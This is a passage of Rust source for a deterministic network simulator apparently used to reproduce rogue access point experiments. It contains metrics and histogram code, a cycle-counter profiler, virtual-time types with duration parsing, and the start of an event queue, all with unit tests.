    /// Counter value (0 if never touched).
    pub fn counter(&self, key: &str) -> u64 {
        self.counters.get(key).copied().unwrap_or(0)
    }

    /// Sum value (0.0 if never touched).
    pub fn sum(&self, key: &str) -> f64 {
        self.sums.get(key).copied().unwrap_or(0.0)
    }

    /// Histogram by name, if any samples were observed.
    pub fn histogram(&self, key: &str) -> Option<&Histogram> {
        self.histograms.get(key)
    }

    /// Recorded trace events (empty unless tracing was enabled).
    pub fn events(&self) -> &[TraceEvent] {
        &self.events
    }

    /// Trace events of one kind, in time order.
    pub fn events_of<'a>(&'a self, kind: &'a str) -> impl Iterator<Item = &'a TraceEvent> + 'a {
        self.events.iter().filter(move |e| e.kind == kind)
    }

    /// Merge another metrics object into this one (associative,
    /// commutative up to event ordering, which is re-sorted by time).
    pub fn merge(&mut self, other: &Metrics) {
        for (k, v) in &other.counters {
            *self.counters.entry(k).or_insert(0) += v;
        }
        for (k, v) in &other.sums {
            *self.sums.entry(k).or_insert(0.0) += v;
        }
        for (k, h) in &other.histograms {
            self.histograms.entry(k).or_default().merge(h);
        }
        if self.record_events {
            self.events.extend(other.events.iter().cloned());
            self.events.sort_by_key(|e| e.at);
        }
    }

    /// All counter keys, sorted (BTreeMap order).
    pub fn counter_keys(&self) -> impl Iterator<Item = &'static str> + '_ {
        self.counters.keys().copied()
    }
}

impl fmt::Debug for Metrics {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "Metrics {{")?;
        for (k, v) in &self.counters {
            writeln!(f, "  {k}: {v}")?;
        }
        for (k, v) in &self.sums {
            writeln!(f, "  {k}: {v:.4}")?;
        }
        for (k, h) in &self.histograms {
            writeln!(
                f,
                "  {k}: n={} mean={:.3} p50={:.3} p99={:.3}",
                h.count(),
                h.mean(),
                h.quantile(0.5),
                h.quantile(0.99)
            )?;
        }
        write!(f, "}}")
    }
}

/// A simple exact-sample histogram. Experiments record at most a few hundred
/// thousand samples per world, so storing the samples and sorting at
/// quantile time is both exact and cheap; quantiles use nearest-rank.
#[derive(Default, Clone, Debug)]
pub struct Histogram {
    samples: Vec<f64>,
}

impl Histogram {
    /// Record one sample.
    pub fn observe(&mut self, v: f64) {
        self.samples.push(v);
    }

    /// Number of samples.
    pub fn count(&self) -> usize {
        self.samples.len()
    }

    /// Arithmetic mean (0.0 when empty).
    pub fn mean(&self) -> f64 {
        if self.samples.is_empty() {
            return 0.0;
        }
        self.samples.iter().sum::<f64>() / self.samples.len() as f64
    }

    /// Minimum (0.0 when empty).
    pub fn min(&self) -> f64 {
        if self.samples.is_empty() {
            return 0.0;
        }
        self.samples.iter().copied().fold(f64::INFINITY, f64::min)
    }

    /// Maximum (0.0 when empty).
    pub fn max(&self) -> f64 {
        if self.samples.is_empty() {
            return 0.0;
        }
        self.samples
            .iter()
            .copied()
            .fold(f64::NEG_INFINITY, f64::max)
    }

    /// Nearest-rank quantile, `q` in `[0, 1]` (0.0 when empty).
    pub fn quantile(&self, q: f64) -> f64 {
        if self.samples.is_empty() {
            return 0.0;
        }
        let mut sorted = self.samples.clone();
        sorted.sort_by(|a, b| a.partial_cmp(b).expect("NaN sample"));
        let q = q.clamp(0.0, 1.0);
        let idx = ((sorted.len() as f64 - 1.0) * q).round() as usize;
        sorted[idx]
    }

    /// Merge all samples from `other`.
    pub fn merge(&mut self, other: &Histogram) {
        self.samples.extend_from_slice(&other.samples);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counters_and_sums() {
        let mut m = Metrics::default();
        m.incr("pkts");
        m.add("pkts", 9);
        m.accumulate("bytes", 1.5);
        m.accumulate("bytes", 2.5);
        assert_eq!(m.counter("pkts"), 10);
        assert_eq!(m.counter("missing"), 0);
        assert!((m.sum("bytes") - 4.0).abs() < 1e-12);
    }

    #[test]
    fn histogram_quantiles() {
        let mut h = Histogram::default();
        for i in 1..=100 {
            h.observe(i as f64);
        }
        assert_eq!(h.count(), 100);
        assert!((h.mean() - 50.5).abs() < 1e-9);
        assert_eq!(h.quantile(0.0), 1.0);
        assert_eq!(h.quantile(1.0), 100.0);
        let p50 = h.quantile(0.5);
        assert!((50.0..=51.0).contains(&p50));
    }

    #[test]
    fn histogram_min_max_empty() {
        let h = Histogram::default();
        assert_eq!(h.min(), 0.0);
        assert_eq!(h.max(), 0.0);
        let mut h2 = Histogram::default();
        h2.observe(-3.0);
        h2.observe(7.0);
        assert_eq!(h2.min(), -3.0);
        assert_eq!(h2.max(), 7.0);
    }

    #[test]
    fn merge_is_additive() {
        let mut a = Metrics::default();
        let mut b = Metrics::default();
        a.add("x", 3);
        b.add("x", 4);
        b.add("y", 1);
        a.observe("lat", 1.0);
        b.observe("lat", 3.0);
        a.merge(&b);
        assert_eq!(a.counter("x"), 7);
        assert_eq!(a.counter("y"), 1);
        assert_eq!(a.histogram("lat").unwrap().count(), 2);
    }

    #[test]
    fn trace_only_when_enabled() {
        let mut off = Metrics::default();
        off.event(SimTime::ZERO, "k", "d");
        assert!(off.events().is_empty());

        let mut on = Metrics::with_trace();
        on.event(SimTime::from_secs(2), "dot11.assoc", "sta1->rogue");
        on.event(SimTime::from_secs(1), "dot11.beacon", "ap0");
        assert_eq!(on.events().len(), 2);
        assert_eq!(on.events_of("dot11.assoc").count(), 1);
    }

    #[test]
    fn merged_traces_sorted_by_time() {
        let mut a = Metrics::with_trace();
        let mut b = Metrics::with_trace();
        a.event(SimTime::from_secs(5), "a", "");
        b.event(SimTime::from_secs(2), "b", "");
        a.merge(&b);
        let times: Vec<u64> = a.events().iter().map(|e| e.at.as_nanos()).collect();
        assert!(times.windows(2).all(|w| w[0] <= w[1]));
    }
}
