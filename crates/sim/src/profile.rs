//! Always-on cycle profiler for the event hot path.
//!
//! The dispatch loop needs to know where its microseconds go — per event
//! kind and per phase (queue ops, medium plan/commit, netstack delivery)
//! — without slowing itself down enough to distort the answer. The
//! design:
//!
//! * [`now`] reads the TSC (`rdtsc` on x86_64, `cntvct` on aarch64) —
//!   a handful of cycles, no syscall. Other targets fall back to a
//!   monotonic [`std::time::Instant`] anchored at first use.
//! * Spans are accumulated into fixed arrays indexed by [`Phase`] — one
//!   add + one increment per probe, no branching on labels.
//! * Cycle→nanosecond conversion is *calibrated at snapshot time* from
//!   an `Instant`/counter pair recorded at construction, so the profiler
//!   itself never calls into the OS on the hot path.
//! * The profiler measures its own probe cost at construction (a tight
//!   loop of paired reads) and reports estimated total overhead with
//!   every snapshot, so the ≤ 2 % overhead budget is *checked*, not
//!   assumed.
//!
//! Profiler output is wall-clock and therefore nondeterministic; it is
//! surfaced only through `sim.prof.*` metrics and bench JSON breakdowns,
//! which are never rendered into golden report tables.

use std::time::Instant;

/// Phases of one event dispatch, in the order they appear in the loop.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[repr(usize)]
pub enum Phase {
    /// Queue pop / peek / merge work.
    QueuePop = 0,
    /// Scheduling follow-up events (queue inserts, cancels).
    QueueSchedule = 1,
    /// `Medium::plan_complete` — SINR/interference planning.
    MediumPlan = 2,
    /// `Medium::commit_complete` / `complete_tx` — state mutation.
    MediumCommit = 3,
    /// Frame delivery into radios/MACs/switches.
    Deliver = 4,
    /// Netstack polls (host timers, MAC state machines, apps).
    Poll = 5,
    /// Applying deferred ops (medium mutations, queue inserts, switch
    /// forwarding) at the commit point, in canonical order.
    OpCommit = 6,
    /// Wall-clock time of parallel regions (plan batches, chain
    /// execution). Unlike every other phase — which accumulates
    /// *cumulative* worker time and can exceed wall time on a
    /// multi-thread pool — this one is measured from the coordinating
    /// thread, so `exec_wall / (deliver + poll + medium_plan)` reads
    /// directly as parallel efficiency.
    ExecWall = 7,
}

/// Number of `Phase` variants (array sizing).
pub const NUM_PHASES: usize = 8;

/// Static labels, indexed by `Phase as usize`.
pub const PHASE_NAMES: [&str; NUM_PHASES] = [
    "queue_pop",
    "queue_schedule",
    "medium_plan",
    "medium_commit",
    "deliver",
    "poll",
    "op_commit",
    "exec_wall",
];

/// Read the cycle counter. Monotonic-enough for span accumulation; the
/// unit is calibrated against wall-clock at snapshot time.
#[inline(always)]
pub fn now() -> u64 {
    #[cfg(target_arch = "x86_64")]
    unsafe {
        core::arch::x86_64::_rdtsc()
    }
    #[cfg(target_arch = "aarch64")]
    unsafe {
        let v: u64;
        core::arch::asm!("mrs {v}, cntvct_el0", v = out(reg) v, options(nomem, nostack));
        v
    }
    #[cfg(not(any(target_arch = "x86_64", target_arch = "aarch64")))]
    {
        use std::sync::OnceLock;
        static EPOCH: OnceLock<Instant> = OnceLock::new();
        EPOCH.get_or_init(Instant::now).elapsed().as_nanos() as u64
    }
}

/// One accumulator cell: total cycles and probe count.
#[derive(Clone, Copy, Default)]
struct Cell {
    cycles: u64,
    count: u64,
}

/// A snapshot row: `(label, total_ns, count)`.
pub type SnapshotRow = (&'static str, u64, u64);

/// Converted, wall-clock-calibrated view of the accumulated spans.
pub struct Snapshot {
    /// Per-phase `(label, ns, count)` rows, in `Phase` order.
    pub phases: Vec<SnapshotRow>,
    /// Per-event-kind `(label, ns, count)` rows, in registration order.
    pub kinds: Vec<SnapshotRow>,
    /// Per-shard per-phase rows (`per_shard[shard][phase]`), populated
    /// only when the owner called [`Profiler::ensure_shards`] — i.e. by
    /// the sharded event loop. Shard cells mirror a *subset* of the
    /// global phase cells (the work whose owning shard is known), so
    /// column sums may undershoot the global row.
    pub per_shard: Vec<Vec<SnapshotRow>>,
    /// Estimated profiler self-cost across all probes, in ns.
    pub overhead_ns: u64,
    /// Total ns attributed to event kinds (the dispatch denominator).
    pub dispatch_ns: u64,
}

impl Snapshot {
    /// Overhead as a permille of dispatch time (0 when nothing ran).
    /// The acceptance budget is ≤ 20 ‰ (2 %).
    pub fn overhead_permille(&self) -> u64 {
        (self.overhead_ns * 1000)
            .checked_div(self.dispatch_ns)
            .unwrap_or(0)
    }
}

/// Cycle-count profiler with fixed phase cells and caller-registered
/// event-kind cells.
pub struct Profiler {
    phases: [Cell; NUM_PHASES],
    kinds: Vec<(&'static str, Cell)>,
    /// Per-shard phase cells; empty until [`Self::ensure_shards`].
    shards: Vec<[Cell; NUM_PHASES]>,
    /// Actual probe pairs taken. Distinct from cell counts since
    /// [`Self::record_many`]: one probe can account for many events.
    probes: u64,
    anchor_instant: Instant,
    anchor_cycles: u64,
    /// Measured cost of one start/stop probe pair, in cycles.
    pair_cost_cycles: u64,
}

impl Default for Profiler {
    fn default() -> Self {
        Self::new()
    }
}

impl Profiler {
    /// Build a profiler and calibrate the per-probe cost.
    pub fn new() -> Self {
        // Measure the cost of a paired read: this is exactly what one
        // record() span costs on top of the work it wraps.
        const PROBES: u64 = 512;
        let t0 = now();
        let mut sink = 0u64;
        for _ in 0..PROBES {
            sink = sink.wrapping_add(now());
        }
        let t1 = now();
        std::hint::black_box(sink);
        let pair_cost_cycles = (t1.wrapping_sub(t0)) / PROBES;
        Profiler {
            phases: [Cell::default(); NUM_PHASES],
            kinds: Vec::new(),
            shards: Vec::new(),
            probes: 0,
            anchor_instant: Instant::now(),
            anchor_cycles: now(),
            pair_cost_cycles,
        }
    }

    /// Register an event-kind cell; returns its index for [`Self::record_kind`].
    pub fn register_kind(&mut self, label: &'static str) -> usize {
        self.kinds.push((label, Cell::default()));
        self.kinds.len() - 1
    }

    /// Size the per-shard cell table (idempotent; never shrinks).
    pub fn ensure_shards(&mut self, n: usize) {
        if self.shards.len() < n {
            self.shards.resize(n, [Cell::default(); NUM_PHASES]);
        }
    }

    /// Attribute `now() - t0` to `phase`.
    #[inline(always)]
    pub fn record(&mut self, phase: Phase, t0: u64) {
        let c = &mut self.phases[phase as usize];
        c.cycles = c.cycles.wrapping_add(now().wrapping_sub(t0));
        c.count += 1;
        self.probes += 1;
    }

    /// Attribute `now() - t0` to `phase`, counting `n` items under the
    /// single probe — the bulk-drain variant: a burst pop loop takes one
    /// probe pair but dequeues `n` events, and the cell count must stay
    /// comparable with the serial loop's one-probe-per-pop accounting.
    #[inline(always)]
    pub fn record_many(&mut self, phase: Phase, t0: u64, n: u64) {
        let c = &mut self.phases[phase as usize];
        c.cycles = c.cycles.wrapping_add(now().wrapping_sub(t0));
        c.count += n;
        self.probes += 1;
    }

    /// Fold externally measured cycles into `phase` — the merge path for
    /// spans taken on pool workers, where `&mut self` is unavailable.
    /// `probes` is how many `now()` pairs produced the total, so the
    /// self-cost estimate stays honest.
    #[inline]
    pub fn add_cycles(&mut self, phase: Phase, cycles: u64, count: u64, probes: u64) {
        let c = &mut self.phases[phase as usize];
        c.cycles = c.cycles.wrapping_add(cycles);
        c.count += count;
        self.probes += probes;
    }

    /// Fold externally measured cycles into shard `s`'s `phase` cell.
    /// No probe accounting: shard cells only mirror totals already
    /// folded through [`Self::add_cycles`] or recorded directly.
    #[inline]
    pub fn add_shard_cycles(&mut self, s: usize, phase: Phase, cycles: u64, count: u64) {
        let c = &mut self.shards[s][phase as usize];
        c.cycles = c.cycles.wrapping_add(cycles);
        c.count += count;
    }

    /// Attribute `now() - t0` to the registered kind `idx`.
    #[inline(always)]
    pub fn record_kind(&mut self, idx: usize, t0: u64) {
        let c = &mut self.kinds[idx].1;
        c.cycles = c.cycles.wrapping_add(now().wrapping_sub(t0));
        c.count += 1;
        self.probes += 1;
    }

    /// Fold externally measured cycles into kind `idx` (pool merge path).
    #[inline]
    pub fn add_kind_cycles(&mut self, idx: usize, cycles: u64, count: u64, probes: u64) {
        let c = &mut self.kinds[idx].1;
        c.cycles = c.cycles.wrapping_add(cycles);
        c.count += count;
        self.probes += probes;
    }

    /// Calibrate cycles→ns against the wall clock and convert every cell.
    ///
    /// Reads the clock *now*, so the calibration window spans the whole
    /// profiled run — long enough that `Instant` granularity is noise.
    pub fn snapshot(&self) -> Snapshot {
        let elapsed_ns = self.anchor_instant.elapsed().as_nanos() as u64;
        let elapsed_cycles = now().wrapping_sub(self.anchor_cycles).max(1);
        let to_ns = |cycles: u64| -> u64 {
            // u128 to survive cycles * ns products at hour scale.
            ((cycles as u128 * elapsed_ns as u128) / elapsed_cycles as u128) as u64
        };
        let phases: Vec<SnapshotRow> = self
            .phases
            .iter()
            .enumerate()
            .map(|(i, c)| (PHASE_NAMES[i], to_ns(c.cycles), c.count))
            .collect();
        let kinds: Vec<SnapshotRow> = self
            .kinds
            .iter()
            .map(|(label, c)| (*label, to_ns(c.cycles), c.count))
            .collect();
        let per_shard: Vec<Vec<SnapshotRow>> = self
            .shards
            .iter()
            .map(|cells| {
                cells
                    .iter()
                    .enumerate()
                    .map(|(i, c)| (PHASE_NAMES[i], to_ns(c.cycles), c.count))
                    .collect()
            })
            .collect();
        let overhead_ns = to_ns(self.probes.saturating_mul(self.pair_cost_cycles));
        let dispatch_ns = kinds.iter().map(|(_, ns, _)| ns).sum();
        Snapshot {
            phases,
            kinds,
            per_shard,
            overhead_ns,
            dispatch_ns,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counter_is_monotonic_enough() {
        let a = now();
        let mut x = 0u64;
        for i in 0..10_000u64 {
            x = x.wrapping_add(i);
        }
        std::hint::black_box(x);
        let b = now();
        assert!(b.wrapping_sub(a) > 0, "time must pass across real work");
    }

    #[test]
    fn spans_accumulate_and_convert() {
        let mut p = Profiler::new();
        let k = p.register_kind("test_kind");
        for _ in 0..100 {
            let t0 = now();
            let mut x = 0u64;
            for i in 0..1000u64 {
                x = x.wrapping_add(i * i);
            }
            std::hint::black_box(x);
            p.record(Phase::Poll, t0);
            p.record_kind(k, t0);
        }
        // Let the calibration window accumulate some wall time.
        std::thread::sleep(std::time::Duration::from_millis(5));
        let s = p.snapshot();
        assert_eq!(s.phases[Phase::Poll as usize].2, 100);
        assert_eq!(s.kinds[0].2, 100);
        assert_eq!(s.kinds[0].0, "test_kind");
        assert!(s.kinds[0].1 > 0, "real work must convert to nonzero ns");
        assert!(s.dispatch_ns >= s.kinds[0].1);
    }

    #[test]
    fn record_many_counts_items_not_probes() {
        let mut p = Profiler::new();
        let t0 = now();
        p.record_many(Phase::QueuePop, t0, 37);
        let before = p.probes;
        p.record_many(Phase::QueuePop, now(), 3);
        assert_eq!(p.probes, before + 1, "one probe pair per bulk record");
        std::thread::sleep(std::time::Duration::from_millis(2));
        let s = p.snapshot();
        assert_eq!(s.phases[Phase::QueuePop as usize].2, 40);
    }

    #[test]
    fn shard_cells_convert_in_snapshot() {
        let mut p = Profiler::new();
        p.ensure_shards(2);
        p.add_shard_cycles(1, Phase::Poll, 1_000_000, 5);
        p.add_cycles(Phase::Poll, 1_000_000, 5, 5);
        std::thread::sleep(std::time::Duration::from_millis(2));
        let s = p.snapshot();
        assert_eq!(s.per_shard.len(), 2);
        assert_eq!(s.per_shard[1][Phase::Poll as usize].2, 5);
        assert_eq!(s.per_shard[0][Phase::Poll as usize].2, 0);
        assert_eq!(
            s.per_shard[1][Phase::Poll as usize].1,
            s.phases[Phase::Poll as usize].1,
            "identical cycle totals must convert to identical ns"
        );
    }

    #[test]
    fn overhead_estimate_is_reported() {
        let mut p = Profiler::new();
        let k = p.register_kind("busy");
        for _ in 0..10_000 {
            let t0 = now();
            p.record_kind(k, t0);
        }
        std::thread::sleep(std::time::Duration::from_millis(2));
        let s = p.snapshot();
        // Empty spans: nearly all recorded time IS probe overhead, so the
        // estimate must be in the same ballpark as the accumulated total
        // (within noise) — and definitely nonzero.
        assert!(s.overhead_ns > 0);
    }
}
