//! Integer-nanosecond virtual time.
//!
//! All protocol timers in the reproduction (802.11 airtime, TCP RTO, beacon
//! intervals, VPN handshake timeouts) are expressed in [`SimDuration`]s and
//! compared on the [`SimTime`] axis. Using integers rather than `f64`
//! guarantees associativity and therefore cross-platform determinism.

use std::fmt;
use std::ops::{Add, AddAssign, Sub};

/// An instant in simulated time, in nanoseconds since the start of the run.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub struct SimTime(pub u64);

/// A span of simulated time, in nanoseconds.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub struct SimDuration(pub u64);

impl SimTime {
    /// The start of every simulation run.
    pub const ZERO: SimTime = SimTime(0);
    /// A sentinel later than any reachable instant.
    pub const FOREVER: SimTime = SimTime(u64::MAX);

    /// Construct from whole seconds.
    pub const fn from_secs(s: u64) -> Self {
        SimTime(s * 1_000_000_000)
    }

    /// Construct from whole milliseconds.
    pub const fn from_millis(ms: u64) -> Self {
        SimTime(ms * 1_000_000)
    }

    /// Construct from whole microseconds.
    pub const fn from_micros(us: u64) -> Self {
        SimTime(us * 1_000)
    }

    /// Nanoseconds since time zero.
    pub const fn as_nanos(self) -> u64 {
        self.0
    }

    /// Whole microseconds since time zero (truncated).
    pub const fn as_micros(self) -> u64 {
        self.0 / 1_000
    }

    /// Whole milliseconds since time zero (truncated).
    pub const fn as_millis(self) -> u64 {
        self.0 / 1_000_000
    }

    /// Seconds since time zero as a float, for reporting only.
    pub fn as_secs_f64(self) -> f64 {
        self.0 as f64 / 1e9
    }

    /// Saturating difference `self - earlier`.
    pub fn since(self, earlier: SimTime) -> SimDuration {
        SimDuration(self.0.saturating_sub(earlier.0))
    }

    /// Checked addition that saturates at [`SimTime::FOREVER`].
    pub fn saturating_add(self, d: SimDuration) -> SimTime {
        SimTime(self.0.saturating_add(d.0))
    }
}

impl SimDuration {
    /// The empty duration.
    pub const ZERO: SimDuration = SimDuration(0);

    /// Construct from whole seconds.
    pub const fn from_secs(s: u64) -> Self {
        SimDuration(s * 1_000_000_000)
    }

    /// Construct from whole milliseconds.
    pub const fn from_millis(ms: u64) -> Self {
        SimDuration(ms * 1_000_000)
    }

    /// Construct from whole microseconds.
    pub const fn from_micros(us: u64) -> Self {
        SimDuration(us * 1_000)
    }

    /// Construct from whole nanoseconds.
    pub const fn from_nanos(ns: u64) -> Self {
        SimDuration(ns)
    }

    /// Duration of `bits` transmitted at `bits_per_sec`, rounded up to the
    /// next nanosecond so that airtime is never under-estimated.
    pub fn for_bits(bits: u64, bits_per_sec: u64) -> Self {
        assert!(bits_per_sec > 0, "bitrate must be positive");
        let ns = (bits as u128 * 1_000_000_000u128).div_ceil(bits_per_sec as u128);
        SimDuration(ns.min(u64::MAX as u128) as u64)
    }

    /// Nanoseconds in this duration.
    pub const fn as_nanos(self) -> u64 {
        self.0
    }

    /// Whole microseconds (truncated).
    pub const fn as_micros(self) -> u64 {
        self.0 / 1_000
    }

    /// Whole milliseconds (truncated).
    pub const fn as_millis(self) -> u64 {
        self.0 / 1_000_000
    }

    /// Seconds as a float, for reporting only.
    pub fn as_secs_f64(self) -> f64 {
        self.0 as f64 / 1e9
    }

    /// Scale by an integer factor, saturating.
    pub fn saturating_mul(self, k: u64) -> SimDuration {
        SimDuration(self.0.saturating_mul(k))
    }

    /// Halve (used by exponential-backoff style timers when decaying).
    pub const fn halved(self) -> SimDuration {
        SimDuration(self.0 / 2)
    }

    /// Double, saturating (RTO exponential backoff).
    pub fn doubled(self) -> SimDuration {
        SimDuration(self.0.saturating_mul(2))
    }

    /// Clamp into `[lo, hi]`.
    pub fn clamp(self, lo: SimDuration, hi: SimDuration) -> SimDuration {
        SimDuration(self.0.clamp(lo.0, hi.0))
    }
}

impl Add<SimDuration> for SimTime {
    type Output = SimTime;
    fn add(self, rhs: SimDuration) -> SimTime {
        SimTime(self.0 + rhs.0)
    }
}

impl AddAssign<SimDuration> for SimTime {
    fn add_assign(&mut self, rhs: SimDuration) {
        self.0 += rhs.0;
    }
}

impl Sub<SimTime> for SimTime {
    type Output = SimDuration;
    fn sub(self, rhs: SimTime) -> SimDuration {
        SimDuration(self.0 - rhs.0)
    }
}

impl Add for SimDuration {
    type Output = SimDuration;
    fn add(self, rhs: SimDuration) -> SimDuration {
        SimDuration(self.0 + rhs.0)
    }
}

impl AddAssign for SimDuration {
    fn add_assign(&mut self, rhs: SimDuration) {
        self.0 += rhs.0;
    }
}

impl Sub for SimDuration {
    type Output = SimDuration;
    fn sub(self, rhs: SimDuration) -> SimDuration {
        SimDuration(self.0 - rhs.0)
    }
}

impl fmt::Debug for SimTime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "t={}", format_ns(self.0))
    }
}

impl fmt::Display for SimTime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", format_ns(self.0))
    }
}

impl fmt::Debug for SimDuration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", format_ns(self.0))
    }
}

impl fmt::Display for SimDuration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", format_ns(self.0))
    }
}

/// Error from parsing a duration string such as `"10s"` or `"250ms"`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseDurationError(String);

impl fmt::Display for ParseDurationError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid duration: {}", self.0)
    }
}

impl std::error::Error for ParseDurationError {}

impl std::str::FromStr for SimDuration {
    type Err = ParseDurationError;

    /// Parse `"10s"`, `"2.5s"`, `"120ms"`, `"40us"`, `"700ns"`. A unit
    /// suffix is required; fractional values are accepted for every unit
    /// and truncated to whole nanoseconds.
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let s = s.trim();
        let (num, per_unit_ns) = if let Some(n) = s.strip_suffix("ns") {
            (n, 1u64)
        } else if let Some(n) = s.strip_suffix("us") {
            (n, 1_000)
        } else if let Some(n) = s.strip_suffix("ms") {
            (n, 1_000_000)
        } else if let Some(n) = s.strip_suffix('s') {
            (n, 1_000_000_000)
        } else {
            return Err(ParseDurationError(format!(
                "{s:?} has no unit suffix (expected s, ms, us or ns)"
            )));
        };
        let num = num.trim();
        if num.is_empty() {
            return Err(ParseDurationError(format!("{s:?} has no number")));
        }
        // Split on the decimal point and assemble integer nanoseconds by
        // hand: going through f64 would lose precision for large counts.
        let (whole, frac) = match num.split_once('.') {
            Some((w, f)) => (w, f),
            None => (num, ""),
        };
        if !whole.chars().all(|c| c.is_ascii_digit())
            || !frac.chars().all(|c| c.is_ascii_digit())
            || (whole.is_empty() && frac.is_empty())
        {
            return Err(ParseDurationError(format!("{s:?} is not a number")));
        }
        let whole: u64 = if whole.is_empty() {
            0
        } else {
            whole
                .parse()
                .map_err(|_| ParseDurationError(format!("{s:?} is out of range")))?
        };
        let mut ns = whole
            .checked_mul(per_unit_ns)
            .ok_or_else(|| ParseDurationError(format!("{s:?} overflows u64 nanoseconds")))?;
        if !frac.is_empty() {
            // Scale the fractional digits against the unit: "2.5s" adds
            // 5 * 10^8 ns. Digits finer than a nanosecond are truncated.
            let mut scale = per_unit_ns;
            for d in frac.chars() {
                scale /= 10;
                if scale == 0 {
                    break;
                }
                let digit = d.to_digit(10).expect("checked ascii digit") as u64;
                ns = ns.checked_add(digit * scale).ok_or_else(|| {
                    ParseDurationError(format!("{s:?} overflows u64 nanoseconds"))
                })?;
            }
        }
        Ok(SimDuration(ns))
    }
}

fn format_ns(ns: u64) -> String {
    if ns >= 1_000_000_000 {
        format!("{:.3}s", ns as f64 / 1e9)
    } else if ns >= 1_000_000 {
        format!("{:.3}ms", ns as f64 / 1e6)
    } else if ns >= 1_000 {
        format!("{:.3}us", ns as f64 / 1e3)
    } else {
        format!("{ns}ns")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn construction_round_trips() {
        assert_eq!(SimTime::from_secs(2).as_nanos(), 2_000_000_000);
        assert_eq!(SimTime::from_millis(3).as_micros(), 3_000);
        assert_eq!(SimTime::from_micros(7).as_nanos(), 7_000);
        assert_eq!(SimDuration::from_secs(1).as_millis(), 1_000);
    }

    #[test]
    fn arithmetic() {
        let t = SimTime::from_millis(10) + SimDuration::from_millis(5);
        assert_eq!(t.as_millis(), 15);
        assert_eq!((t - SimTime::from_millis(10)).as_millis(), 5);
        assert_eq!(t.since(SimTime::from_secs(100)), SimDuration::ZERO);
    }

    #[test]
    fn airtime_rounds_up() {
        // 1 bit at 3 bits/sec = 333,333,333.33.. ns, must round up.
        let d = SimDuration::for_bits(1, 3);
        assert_eq!(d.as_nanos(), 333_333_334);
        // Exact division stays exact: 11 Mbps, 11_000 bits = 1 ms.
        let d = SimDuration::for_bits(11_000, 11_000_000);
        assert_eq!(d.as_nanos(), 1_000_000);
    }

    #[test]
    fn backoff_helpers() {
        let d = SimDuration::from_millis(200);
        assert_eq!(d.doubled().as_millis(), 400);
        assert_eq!(d.halved().as_millis(), 100);
        let hi = SimDuration::from_secs(60);
        let lo = SimDuration::from_millis(100);
        assert_eq!(SimDuration::from_secs(600).clamp(lo, hi), hi);
        assert_eq!(SimDuration::from_millis(1).clamp(lo, hi), lo);
    }

    #[test]
    fn saturating_behaviour() {
        assert_eq!(
            SimTime::FOREVER.saturating_add(SimDuration::from_secs(1)),
            SimTime::FOREVER
        );
        assert_eq!(
            SimDuration(u64::MAX / 2).saturating_mul(u64::MAX),
            SimDuration(u64::MAX)
        );
    }

    #[test]
    fn duration_parsing() {
        let parse = |s: &str| s.parse::<SimDuration>();
        assert_eq!(parse("10s").unwrap(), SimDuration::from_secs(10));
        assert_eq!(parse("2.5s").unwrap(), SimDuration::from_millis(2_500));
        assert_eq!(parse("500ms").unwrap(), SimDuration::from_millis(500));
        assert_eq!(parse("120us").unwrap(), SimDuration::from_micros(120));
        assert_eq!(parse("700ns").unwrap(), SimDuration::from_nanos(700));
        assert_eq!(parse(" 1s ").unwrap(), SimDuration::from_secs(1));
        assert_eq!(parse(".5s").unwrap(), SimDuration::from_millis(500));
        // Sub-nanosecond digits truncate rather than round.
        assert_eq!(parse("1.9ns").unwrap(), SimDuration::from_nanos(1));
        for bad in ["", "10", "s", "ten s", "1.2.3s", "-4s", "1 0s"] {
            assert!(parse(bad).is_err(), "{bad:?} should not parse");
        }
    }

    #[test]
    fn display_formats() {
        assert_eq!(SimTime::from_secs(1).to_string(), "1.000s");
        assert_eq!(SimDuration::from_micros(1500).to_string(), "1.500ms");
        assert_eq!(SimDuration::from_nanos(15).to_string(), "15ns");
        assert_eq!(SimDuration::from_nanos(1500).to_string(), "1.500us");
    }
}
