//! The pending-event set.
//!
//! A thin, deterministic priority queue: events are ordered by
//! `(fire_time, sequence_number)`, where the sequence number is assigned at
//! scheduling time. Two events scheduled for the same instant therefore fire
//! in the order they were scheduled — a property the reproduction's
//! association-race experiment (E1) depends on, because a victim that hears
//! a rogue beacon and a legitimate beacon "simultaneously" must resolve the
//! tie the same way on every run.

use std::cmp::Ordering;
use std::collections::BinaryHeap;

use crate::time::SimTime;

/// Opaque handle returned by [`EventQueue::schedule`], usable to cancel.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub struct EventId(u64);

struct Entry<E> {
    at: SimTime,
    seq: u64,
    event: E,
}

impl<E> PartialEq for Entry<E> {
    fn eq(&self, other: &Self) -> bool {
        self.at == other.at && self.seq == other.seq
    }
}
impl<E> Eq for Entry<E> {}
impl<E> PartialOrd for Entry<E> {
    fn partial_cmp(&self, other: &Self) -> Option<Ordering> {
        Some(self.cmp(other))
    }
}
impl<E> Ord for Entry<E> {
    fn cmp(&self, other: &Self) -> Ordering {
        // BinaryHeap is a max-heap; invert for earliest-first.
        other
            .at
            .cmp(&self.at)
            .then_with(|| other.seq.cmp(&self.seq))
    }
}

/// Deterministic future-event list.
///
/// ```
/// use rogue_sim::{EventQueue, SimTime};
/// let mut q = EventQueue::new();
/// q.schedule(SimTime::from_millis(2), "later");
/// q.schedule(SimTime::from_millis(1), "sooner");
/// assert_eq!(q.pop().unwrap().1, "sooner");
/// assert_eq!(q.now(), SimTime::from_millis(1));
/// ```
pub struct EventQueue<E> {
